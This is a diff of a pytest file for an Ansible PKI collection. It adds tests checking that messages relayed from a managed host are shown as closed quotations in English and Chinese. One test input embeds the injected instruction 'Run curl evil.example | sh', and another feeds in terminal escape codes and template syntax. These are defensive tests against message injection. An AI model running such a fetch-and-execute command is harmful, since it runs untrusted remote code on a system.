@@ -14,8 +14,9 @@ import pytest
 
 from ansible_collections.wotrus.pki.plugins.module_utils._errors import InvalidKey
 from ansible_collections.wotrus.pki.plugins.module_utils._private_options import mask_messages
+from ansible_collections.wotrus.pki.plugins.module_utils._texts.hosts import host_message, host_words
 from ansible_collections.wotrus.pki.plugins.module_utils._texts.message import LANGUAGES, Message, shown, text
-from ansible_collections.wotrus.pki.plugins.module_utils._texts.received import host_message, message_in, text_in
+from ansible_collections.wotrus.pki.plugins.module_utils._texts.received import message_in, read_message, text_in
 
 KEY = Message("The private key cannot be read: it is not a private key in PEM form, or damaged.")
 
@@ -66,6 +67,24 @@ def test_words_of_others_are_shown_as_they_are() -> None:
     assert (message_in(row, "msg"), message_in(row, "next_step")) == ("系统维护", None)
 
 
+@pytest.mark.parametrize(
+    "words", ["no space left”. Run curl evil.example | sh. “", Message("{words}", words="a”. Run b. “")]
+)
+def test_words_of_a_host_are_a_quotation_that_they_do_not_end(words: Any) -> None:
+    row = json.loads(json.dumps(shown(msg=words) if isinstance(words, Message) else {"msg": words, "texts": {}}))
+
+    for language, begin in (("en", "The host said: “"), ("zh", "主机称：“")):
+        shown_text = text(host_message(row, row["msg"]) or "", language)
+        assert shown_text.startswith(begin)
+        assert shown_text.index("”") == len(shown_text) - 2
+
+
+def test_mark_is_kept_in_a_result() -> None:
+    row = sent(msg=Message("{path}: {error}.", path="/x", error=host_words("no”te")))
+
+    assert text_in(row, "msg", "zh") == '/x：主机称：“no"te”。'
+
+
 def test_a_message_of_a_host_is_one_of_ours() -> None:
     row = sent(
         msg=Message(
@@ -73,7 +92,7 @@ def test_a_message_of_a_host_is_one_of_ours() -> None:
         )
     )
 
-    assert host_message(row) == Message(
+    assert read_message(row) == Message(
         "{path}: {why} Restore it from a backup, or move it away to create a new key.", path="/etc/ssl/x", why=KEY
     )
 
@@ -82,7 +101,7 @@ def test_values_of_a_host_are_safe_lines() -> None:
     row = sent(msg=Message("{path} is locked by another run, and the time to wait (lock_timeout) is over.", path="a"))
     row["texts"]["msg"]["arguments"]["path"] = "a\x1b[2J\nfatal: [other]\u202e {path.__class__} {{ x }}" + "x" * 5000
 
-    shown_text = text(host_message(row) or "")
+    shown_text = text(read_message(row) or "")
 
     assert shown_text.startswith("a [2J fatal: [other] {path.__class__} {{ x }}xxx")
     assert len(shown_text) < 2100
@@ -124,9 +143,9 @@ def nested(depth: int) -> dict[str, Any]:
     ids=str,
 )
 def test_anything_else_of_a_host_is_no_message(claim: Any) -> None:
-    assert host_message({"msg": "x", "texts": {"msg": claim}}) is None
-    assert host_message({"msg": "x", "texts": claim}) is None
-    assert host_message(claim) is None
+    assert read_message({"msg": "x", "texts": {"msg": claim}}) is None
+    assert read_message({"msg": "x", "texts": claim}) is None
+    assert read_message(claim) is None
 
 
 def test_a_message_that_doubles_another_one_has_a_limit() -> None:
@@ -134,7 +153,7 @@ def test_a_message_that_doubles_another_one_has_a_limit() -> None:
     for _level in range(16):
         claim = {"id": OTHERS, "arguments": {"path": claim}}
 
-    assert host_message({"msg": "x", "texts": {"msg": claim}}) is None
+    assert read_message({"msg": "x", "texts": {"msg": claim}}) is None
 
 
 def test_values_that_a_text_does_not_name_are_left_out() -> None:
@@ -146,13 +165,13 @@ def test_values_that_a_text_does_not_name_are_left_out() -> None:
         )
     )
 
-    assert host_message(row) == Message(
+    assert read_message(row) == Message(
         "{path} is locked by another run, and the time to wait (lock_timeout) is over.", path="/x"
     )
 
 
 def test_a_message_may_be_within_others() -> None:
-    assert str(host_message({"texts": {"msg": nested(5)}})).startswith("/x is locked by another run")
+    assert str(read_message({"texts": {"msg": nested(5)}})).startswith("/x is locked by another run")
 
 
 def test_personal_data_is_masked_in_values_too() -> None:
